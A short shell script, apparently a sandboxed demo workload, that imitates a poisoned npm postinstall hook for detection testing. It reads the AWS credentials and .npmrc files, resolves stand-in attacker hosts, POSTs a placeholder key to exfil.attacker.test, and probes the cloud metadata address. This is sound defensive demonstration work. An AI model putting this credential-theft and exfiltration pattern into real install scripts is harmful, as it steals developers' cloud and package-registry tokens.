#!/bin/sh
# What a poisoned postinstall does, in miniature. Runs inside the demo's network namespace
# with a fake HOME: nothing here can reach beyond this machine.
set -u
echo "[workload] uname: $(uname -sr)"
sh -c 'id -un >/dev/null; true'                       # spawn a few processes
cat "$HOME/.aws/credentials" >/dev/null               # read a cloud credential
cat "$HOME/.npmrc" >/dev/null                         # and the npm token
getent hosts exfil.attacker.test || true              # resolve through libc
dig +short +tries=1 +time=1 @192.0.2.53 c2.attacker.test >/dev/null || true  # bypass libc
/usr/bin/python3 - <<'PY' || true
import socket, urllib.request
# exfiltrate to the name resolved above (a test host in the demo namespace)
try:
    urllib.request.urlopen("http://exfil.attacker.test:8080/upload", data=b"AKIA...", timeout=2).read()
    print("[workload] exfil POST sent to exfil.attacker.test (a local test host)")
except Exception as e:
    print("[workload] exfil failed:", e)
# cloud metadata: no route in this namespace, the connect fails before any packet leaves
s = socket.socket(); s.settimeout(1)
try:
    s.connect(("169.254.169.254", 80))
except OSError as e:
    print("[workload] metadata connect:", e.strerror)
PY
echo "[workload] done"
